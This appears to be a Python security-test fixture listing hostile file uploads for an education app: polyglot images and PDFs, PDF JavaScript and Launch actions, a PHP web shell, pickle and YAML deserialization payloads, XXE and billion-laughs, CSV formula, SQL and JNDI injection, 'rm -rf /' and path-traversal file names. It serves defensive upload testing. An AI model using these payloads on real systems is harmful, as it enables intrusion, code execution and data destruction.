"""The hostile set: name → (file name, bytes). Texts, pictures, programs, polyglots and names; archives beside it."""

import struct
import zlib

from tests.security.archives import ARCHIVES, CANARY, EVIL, LAUGHS, XXE, Made, packed

SCRIPT = "<script>alert('hostile')</script>"
PEOPLE = "Họ và tên;Ngày sinh;Đơn vị;Chức danh\n"


def _chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">L", len(data)) + kind + data + struct.pack(">L", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2) -> bytes:
    """A picture that opens; with larger figures only its head is true."""
    rows = zlib.compress(b"\0" + b"\xff\0\0" * 2 + b"\0" + b"\xff\0\0" * 2)
    head = struct.pack(">2L5B", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", head) + _chunk(b"IDAT", rows) + _chunk(b"IEND", b"")


def jpeg(width: int = 2, height: int = 2) -> bytes:
    """Head, frame and end of a photograph."""
    frame = b"\xff\xc0" + struct.pack(">HBHHB3B", 11, 8, height, width, 1, 1, 0x11, 0)
    scan = b"\xff\xda" + struct.pack(">HB2B3B", 8, 1, 1, 0, 0, 63, 0) + b"\x00\x7f"
    return b"\xff\xd8\xff\xe0\x00\x10JFIF\0\x01\x01\0\0\x01\0\x01\0\0" + frame + scan + b"\xff\xd9"


def pdf(inside: bytes = b"") -> bytes:
    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog " + inside + b" >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def _hidden_action() -> bytes:
    packed_part = zlib.compress(b"5 0 << /S /JavaScript /JS (app.alert(1)) >>")
    told = f"2 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length {len(packed_part)} >>\nstream\n"
    return pdf().replace(b"trailer", told.encode() + packed_part + b"\nendstream endobj\ntrailer")


TEXTS: dict[str, Made] = {
    "script in a picture": lambda: ("anh.svg", f'<svg xmlns="http://www.w3.org/2000/svg">{SCRIPT}</svg>'.encode()),
    "entity in a picture": lambda: ("anh.svg", (XXE + "<svg>&e;</svg>").encode()),
    "SVG named PNG": lambda: ("anh.png", f'<svg onload="alert(1)">{SCRIPT}</svg>'.encode()),
    "web page named workbook": lambda: ("danh-sach.xls", f"<html><table><tr><td>{SCRIPT}</table>".encode()),
    "web page named JSON": lambda: ("khung.json", f"<!DOCTYPE html>{SCRIPT}".encode()),
    "web page behind a picture's signature": lambda: ("anh.png", b"\x89PNG\r\n\x1a\n<html>" + SCRIPT.encode()),
    "web page behind a photograph's signature": lambda: ("anh.jpg", b"\xff\xd8\xff<html>" + SCRIPT.encode()),
    "script that is a GIF": lambda: ("anh.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;alert(1)"),
    "picture with a program in it": lambda: ("anh.png", png() + packed({"META-INF/MANIFEST.MF": "x", "A.class": "x"})),
    "photograph with a program in it": lambda: ("anh.jpg", jpeg() + packed({"A.class": "x"})),
    "PDF with a zip in it": lambda: ("giay.pdf", pdf() + packed({"A.class": "x"})),
    "web page behind a PDF": lambda: ("giay.pdf", b"<html>" + SCRIPT.encode() + pdf()),
    "PDF with a script": lambda: ("giay.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
    "PDF with a script in other letters": lambda: ("giay.pdf", pdf(b"/OpenAction << /S /#4a#61vaScript /J#53 (x) >>")),
    "PDF with a packed script": lambda: ("giay.pdf", _hidden_action()),
    "PDF that starts a program": lambda: ("giay.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")),
    "PDF with a file in it": lambda: ("giay.pdf", pdf(b"/Names << /EmbeddedFiles 9 0 R >>")),
    "PDF with a form that sends itself": lambda: ("giay.pdf", pdf(b"/AcroForm << /XFA 3 0 R >> /OpenAction << /S /JavaScript /JS 4 0 R >>")),
    "page of the web that is a PDF and a picture": lambda: ("anh.png", png() + b"<!--" + pdf() + f"-->{SCRIPT}".encode() + packed({"a.js": "x"})),
    "picture with a remark that is a script": lambda: ("anh.svgz", b"\x1f\x8b" + zlib.compress(SCRIPT.encode())),
    "PDF with a stream that never ends": lambda: (
        "giay.pdf", pdf().replace(b"trailer", b"2 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n" + zlib.compress(b"\0" * 30_000_000) + b"\nendstream\ntrailer"),
    ),
    "PDF cut short": lambda: ("giay.pdf", pdf()[:30]),
    "picture of nine hundred megapixels": lambda: ("anh.png", png(30_000, 30_000)),
    "picture without a size": lambda: ("anh.png", png(0, 0)),
    "photograph of four gigapixels": lambda: ("anh.jpg", jpeg(65_000, 65_000)),
    "picture cut short": lambda: ("anh.png", png()[:40]),
    "photograph cut short": lambda: ("anh.jpg", jpeg()[:30]),
    "picture that is only a signature": lambda: ("anh.png", b"\x89PNG\r\n\x1a\n made up"),
    "program for Windows": lambda: ("ke-hoach.pdf.exe", b"MZ\x90\0" + b"\0" * 200),
    "program for Linux named workbook": lambda: ("danh-sach.xlsx", b"\x7fELF\x02\x01\x01" + b"\0" * 200),
    "shell script": lambda: ("danh-sach.csv", b"#!/bin/sh\nrm -rf /\n"),
    "PHP named photograph": lambda: ("anh.php.jpg", b"<?php system($_GET['c']); ?>"),
    "pickled program": lambda: ("cau-hoi.yaml", b"cos\nsystem\n(S'touch /tmp/x'\ntR."),
    "YAML that makes objects": lambda: ("cau-hoi.yaml", b"- !!python/object/apply:os.system ['touch /tmp/evil']\n"),
    "YAML of laughs": lambda: (
        "cau-hoi.yaml", ("a: &a [x,x]\n" + "".join(f"{b}: &{b} [*{a},*{a},*{a},*{a},*{a},*{a}]\n" for a, b in zip("abcdefghij", "bcdefghijk", strict=True))).encode(),
    ),
    "YAML a hundred thousand deep": lambda: ("cau-hoi.yaml", b"[" * 100_000),
    "YAML with a key that is a table": lambda: ("cau-hoi.yaml", b"- {? {a: 1} : 2}\n- ? [x]\n  : y\n"),
    "YAML with odd values": lambda: ("cau-hoi.yaml", b"- {id: !!binary AAAA, type: .nan, level: 0o17, stem: 2026-02-30}\n"),
    "JSON a hundred thousand deep": lambda: ("khung.json", b"[" * 100_000 + b"]" * 100_000),
    "JSON with a number of a hundred thousand figures": lambda: ("khung.json", b'{"CFDocument": 1' + b"0" * 100_000 + b"}"),
    "JSON with no number": lambda: ("khung.json", b'{"CFDocument": NaN, "type": ["VerifiableCredential"], "x": Infinity}'),
    "JSON with a key twice": lambda: ("huy-hieu.json", b'{"type": ["VerifiableCredential"], "type": ["x"], "proof": {}, "proof": 1}'),
    "JSON with half a letter": lambda: (
        "khung.json", b'{"CFDocument": {"identifier": "\\ud800", "title": "\\udfff\\ud800"}, "type": ["VerifiableCredential"], "name": "\\ud800"}',
    ),
    "JSON of other shapes": lambda: (
        "khung.json", b'{"CFDocument": [], "CFItems": {"a": 1}, "CFAssociations": 3, "type": "VerifiableCredential", "proof": 7, "issuer": [[]], "credentialSubject": 1, "credentialStatus": "x"}',
    ),
    "badge that sends the server elsewhere": lambda: (
        "huy-hieu.json", f'{{"@context": ["{EVIL}"], "type": ["VerifiableCredential", "OpenBadgeCredential"], "issuer": "{EVIL}", "credentialStatus": {{"id": "{EVIL}"}}, "proof": {{"verificationMethod": "{EVIL}"}}}}'.encode(),
    ),
    "XML with an external entity": lambda: ("khung.xml", f"{XXE}<a>&e;</a>".encode()),
    "XML of laughs": lambda: ("khung.xml", f"{LAUGHS}<a>&j;</a>".encode()),
    "formulas in a list": lambda: ("danh-sach.csv", (PEOPLE + "=HYPERLINK(\"http://192.0.2.66\");+1;-1;@SUM(1)\n\t=1+1;\r;%0A;=cmd|'/C calc'!A0\n").encode()),
    "script in a list": lambda: ("danh-sach.csv", f"{PEOPLE}{SCRIPT};01/02/1980;\"><img src=x onerror=alert(1)>;{SCRIPT}\n".encode()),
    "templates in a list": lambda: ("danh-sach.csv", (PEOPLE + "{{ settings.SECRET_KEY }};{% load x %};${jndi:ldap://192.0.2.66/a};#read(\"/etc/passwd\")\n").encode()),
    "SQL in a list": lambda: ("danh-sach.csv", (PEOPLE + "Robert'); DROP TABLE core_user;--;' OR 1=1;%(name)s;%s%n\n").encode()),
    "one line without an end": lambda: ("danh-sach.csv", b"a" * 3 * 2**20),
    "a hundred thousand columns": lambda: ("danh-sach.csv", b";" * 100_000 + b"\n" + b"x;" * 100_000),
    "quote that never ends": lambda: ("danh-sach.csv", (PEOPLE + '"Nguyễn Văn A;x\n' + "b;c;d;e\n" * 50).encode()),
    "NULs in a list": lambda: ("danh-sach.csv", PEOPLE.encode() + b"Nguy\0n;\0\0;\0" * 50),
    "half letters in UTF-16": lambda: ("danh-sach.csv", b"\xff\xfe" + PEOPLE.encode("utf-16-le") + b"\x00\xd8\x41\x00\x00\xdc"),
    "UTF-16 cut in a letter": lambda: ("danh-sach.csv", PEOPLE.encode("utf-16") + b"\x41"),
    "script in UTF-7": lambda: ("danh-sach.csv", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-;b\nc;d\n"),
    "letters written too long": lambda: ("danh-sach.csv", PEOPLE.encode() + b"\xc0\xaf..\xc0\xaf\xed\xa0\x80;x\n"),
    "letters that turn the line round": lambda: ("danh-sach.csv", (PEOPLE + "A\u202enA\u2066;x\u200b;y\ufeff;z\n").encode()),
    "mark of UTF-8 alone": lambda: ("danh-sach.csv", b"\xef\xbb\xbf"),
    "nothing": lambda: ("danh-sach.xlsx", b""),
    "one NUL": lambda: ("danh-sach.xlsx", b"\0"),
    "a megabyte of blanks": lambda: ("danh-sach.csv", b" \n" * 2**19),
    "noise": lambda: ("danh-sach.xlsx", bytes((n * n * 31 + n * 7) % 251 for n in range(5000))),
    "separator of two hundred kinds": lambda: ("danh-sach.csv", b"sep=\0\n" + b"a\0b\n" * 20),
}  # fmt: skip
PLAIN = b"a;b\n1;2\n"
NAMES: dict[str, Made] = {
    "name that climbs": lambda: ("../../../../etc/cron.d/evil.csv", PLAIN),
    "name that climbs backwards": lambda: ("..\\..\\..\\evil.csv", PLAIN),
    "name of a device": lambda: ("CON.csv", PLAIN),
    "name with NUL": lambda: ("a\0.csv\0.exe", PLAIN),
    "name without an end": lambda: ("tên" * 3000 + ".csv", PLAIN),
    "name that turns round": lambda: ("bang\u202evsc.exe", PLAIN),
    "name with a script": lambda: (f"{SCRIPT}.csv", PLAIN),
    "name with an attribute": lambda: ("x' onmouseover='alert(1)' y='.csv", PLAIN),
    "name with a header": lambda: ("a%0D%0ASet-Cookie: evil=1%0D%0A.csv", PLAIN),
    "name with a formula": lambda: ("=cmd|' /C calc'!A0.csv", PLAIN),
    "name with format marks": lambda: ("%(limit)s %s %n {0.__class__} {{ 7*7 }}.csv", PLAIN),
    "name of dots": lambda: ("..", PLAIN),
    "name of the file system": lambda: (f"file:///{CANARY}", PLAIN),
    "picture with a name of letters that look alike": lambda: ("ảnh\u200b\ufeff.pnɡ", PLAIN),
}
HOSTILE: dict[str, Made] = ARCHIVES | TEXTS | NAMES
